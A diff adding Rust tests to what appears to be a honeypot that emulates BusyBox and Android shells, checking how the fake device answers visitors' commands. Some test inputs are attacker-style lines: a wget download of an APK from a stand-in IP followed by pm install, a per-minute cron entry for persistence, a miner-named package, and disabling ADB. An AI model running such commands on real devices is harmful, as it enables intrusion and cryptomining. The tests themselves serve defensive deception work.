@@ -151,6 +151,11 @@ fn said(flavor: Flavor, line: &str, after_secs: u64) -> String {
     let mut shell = Shell::new(Device::new(flavor, &Persona::example(), &[]), 1);
     let mut out = Output::default();
     let acts = shell.line(&mut Context::new(&session, now, &mut out), line.as_bytes());
+    text_of(acts)
+}
+
+/// All that is printed, errors as well.
+fn text_of(acts: Acts) -> String {
     let printed = acts
         .into_iter()
         .filter_map(|act| if let Act::Print(bytes) | Act::Complain(bytes) = act { Some(bytes) } else { None });
@@ -256,6 +261,86 @@ fn processes_are_numbered_in_the_order_they_began() {
     assert_eq!(said(device, "set -- $(grep ^Pid: /proc/self/status); [ $2 -gt $$ ] && echo later", 0), "later\n");
     let newest = |secs| said(device, "awk '{ print $5 }' /proc/loadavg", secs).trim().parse::<u32>().unwrap();
     assert!(newest(60) > newest(0) && newest(0) == newest(0));
+}
+
+#[test]
+fn what_runs_in_the_background_is_listed_until_it_ends_or_is_killed() {
+    let device = Flavor::BusyBox;
+    assert_eq!(said(device, "sleep 100 & jobs", 0), "[1]+  Running                    sleep 100\n");
+    assert_eq!(
+        said(device, "sleep 100 & ps | grep -cw $! && [ -d /proc/$! ] && echo there; kill $!; ps | grep -cw $!", 0),
+        "1\nthere\n0\n"
+    );
+    let session = Session::example(Transport::Tcp, 23);
+    let mut shell = Shell::new(self::device(), 1);
+    let mut out = Output::default();
+    let acts = shell.line(&mut Context::new(&session, Timestamp::default(), &mut out), b"sleep 3 & sleep 7 & wait");
+    assert_eq!(Vec::from(acts), [Act::Wait(Duration::from_secs(7))], "as long as the longest takes");
+}
+
+#[test]
+fn a_shell_that_kills_itself_is_gone() {
+    let session = Session::example(Transport::Tcp, 23);
+    for (line, is_gone) in [("kill -9 $$", true), ("kill $$", false), ("trap : HUP; kill -1 $$", false)] {
+        let mut shell = Shell::new(device(), 1);
+        let mut out = Output::default();
+        shell.line(&mut Context::new(&session, Timestamp::default(), &mut out), line.as_bytes());
+        assert_eq!(shell.has_exited(), is_gone, "{line}");
+    }
+}
+
+#[test]
+fn what_a_visitor_installs_on_a_phone_is_there_and_nothing_else() {
+    let device = Device::new(Flavor::Android, &Persona::example(), &[]);
+    let session = Session::example(Transport::Tcp, 5555);
+    let now = Timestamp::from_micros(1_700_000_000_000_000);
+    let ask = |line: &str| {
+        let mut shell = Shell::for_commands(Arc::clone(&device), 1);
+        let mut out = Output::default();
+        let acts = shell.line(&mut Context::new(&session, now, &mut out), line.as_bytes());
+        text_of(acts)
+    };
+    let start = "am start -n com.ufo.miner/com.example.test.MainActivity";
+    let started = "Starting: Intent { cmp=com.ufo.miner/com.example.test.MainActivity }\n";
+    let missing = "Error type 3\nError: Activity class {com.ufo.miner/com.example.test.MainActivity} does not exist.\n";
+    assert_eq!(ask("pm path com.ufo.miner || echo none"), "none\n");
+    assert_eq!(ask(start), format!("{started}{missing}"));
+    device.install(session.client.ip(), now, &apk::example("com.ufo.miner"));
+    assert_eq!(ask("pm path com.ufo.miner"), "package:/data/app/com.ufo.miner-1/base.apk\n");
+    assert_eq!(ask("pm list packages -3"), "package:com.ufo.miner\n");
+    assert_eq!(ask(start), started);
+    assert_eq!(
+        ask("pm uninstall com.ufo.miner; pm uninstall com.ufo.miner"),
+        "Success\nFailure [DELETE_FAILED_INTERNAL_ERROR]\n"
+    );
+    assert_eq!(ask("settings put global adb_enabled 0; settings get global adb_enabled"), "0\n");
+    assert_eq!(ask("settings get global adb_enabled"), "0\n", "in the next connection as well");
+    assert_eq!(
+        ask("cd /data/local/tmp && wget -q http://192.0.2.9/a.apk && pm install a.apk && pm path com.a.b"),
+        "Success\npackage:/data/app/com.a.b-1/base.apk\n"
+    );
+}
+
+#[test]
+fn a_table_of_crond_stays_where_it_was_put() {
+    let device = Flavor::BusyBox;
+    let line = "(crontab -l 2>/dev/null; echo '* * * * * /tmp/x') | crontab -; crontab -l; cat /var/spool/cron/crontabs/root; crontab -r; crontab -l";
+    let table = "* * * * * /tmp/x\n";
+    assert_eq!(said(device, line, 0), format!("{table}{table}crontab: can't open 'root': No such file or directory\n"));
+}
+
+#[test]
+fn names_of_variables_are_bounded_as_their_values_are() {
+    let session = Session::example(Transport::Tcp, 23);
+    let mut shell = Shell::new(device(), 1);
+    let mut out = Output::default();
+    for from in (0..6_000).step_by(600) {
+        let line =
+            format!("set -a; for i in $(seq {from} {}); do eval \"x$i=1; readonly x$i; unset x$i\"; done", from + 600);
+        shell.line(&mut Context::new(&session, Timestamp::default(), &mut out), line.as_bytes());
+    }
+    let Surroundings { variables, exported, fixed, .. } = &shell.state.surroundings;
+    assert!(variables.len() < 300 && exported.len() <= variables.len() && fixed.len() <= variables.len());
 }
 
 #[test]
